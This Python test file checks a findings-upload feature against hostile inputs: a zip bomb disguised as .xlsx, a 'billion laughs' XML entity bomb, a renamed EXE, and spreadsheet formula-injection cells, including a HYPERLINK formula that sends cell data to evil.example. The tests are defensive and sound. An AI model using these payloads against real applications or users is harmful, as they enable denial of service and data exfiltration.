"""Hostile files and hostile cells: refused or neutralised with a clear message, nothing written."""
from __future__ import annotations

import csv
import io
import zipfile

from sqlalchemy import func, select

from plugins.audit.models import Finding
from tests.plugins.audit.conftest import csv_bytes, row, upload, xlsx_bytes

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""


def _login_auditor(auth, people):
    auth.login("auditor")


def _count(db_session):
    return db_session.scalar(select(func.count(Finding.id)))


def test_a_zip_bomb_named_xlsx_is_refused_before_it_is_opened(client, auth, db_session, people, ledger):
    auth.login("prov")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (80 * 1024 * 1024))
    data = out.getvalue()
    assert len(data) < 200 * 1024
    page = upload(client, data, "findings.xlsx").get_data(as_text=True)
    assert "工作簿解压后为" in page or "压缩比" in page, page
    assert 'id="confirm-import"' not in page
    assert _count(db_session) == 0


def test_an_xml_entity_bomb_inside_an_xlsx_is_refused(client, auth, db_session, people, ledger):
    auth.login("prov")
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([row("F-1")])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            archive.writestr(item.filename, BILLION_LAUGHS if item.filename == "xl/worksheets/sheet1.xml" else content)
    response = upload(client, out.getvalue(), "findings.xlsx")
    page = response.get_data(as_text=True)
    assert "无法读取" in page, page
    assert 'id="confirm-import"' not in page
    assert _count(db_session) == 0


def test_an_exe_renamed_csv_is_refused_by_its_content(client, auth, db_session, people, ledger):
    auth.login("prov")
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode" * 20
    page = upload(client, exe, "findings.csv").get_data(as_text=True)
    assert "不是电子表格" in page, page
    assert _count(db_session) == 0


def test_formula_cells_come_back_neutralised_from_both_exports_and_round_trip(client, auth, db_session, people,
                                                                             ledger):
    auth.login("prov")
    hostile = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'
    data = csv_bytes([row("F-1", 问题描述=hostile, 问题类别="@SUM(1+1)")])
    page = upload(client, data).get_data(as_text=True)
    token = __import__("re").search(r'name="token" type="hidden" value="([^"]+)"', page).group(1)
    assert client.post("/findings/upload/confirm", data={"token": token, "filename": "f.csv"}).status_code == 200
    stored = db_session.scalars(select(Finding)).one()
    assert stored.description == hostile  # kept as the auditor wrote it, as text

    exported = client.get("/findings/export.csv").data.decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(exported)))[1]
    assert "'" + hostile in cells and "'@SUM(1+1)" in cells

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(client.get("/findings/export.xlsx").data)).active
    values = [cell for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert all(cell.data_type != "f" for cell in values)
    assert "'" + hostile in [cell.value for cell in values]

    # The exported file imports again unchanged: the apostrophe is taken off, nothing is evaluated.
    again = upload(client, exported.encode("utf-8-sig")).get_data(as_text=True)
    assert "保持不变 1" in again or "unchanged" in again.lower() or "1 条不变" in again or "不变" in again, again


def test_an_auditor_cannot_file_findings_outside_their_office_remit(client, auth, db_session, people, ledger):
    auth.login("auditor")  # the city A audit office: city A and its counties
    page = upload(client, csv_bytes([row("F-1", unit="A1"), row("F-2", unit="B1")])).get_data(as_text=True)
    assert "B1" in page and 'id="confirm-import"' not in page
    assert _count(db_session) == 0
    page = upload(client, csv_bytes([row("F-1", unit="A1"), row("F-3", unit="A2")])).get_data(as_text=True)
    assert 'id="confirm-import"' in page


def test_uploads_need_the_import_capability(client, auth, people):
    auth.login("a1")
    assert client.get("/findings/upload").status_code == 403
    assert upload(client, csv_bytes([row("F-1")])).status_code == 403
    assert client.get("/imports/audit").status_code == 403
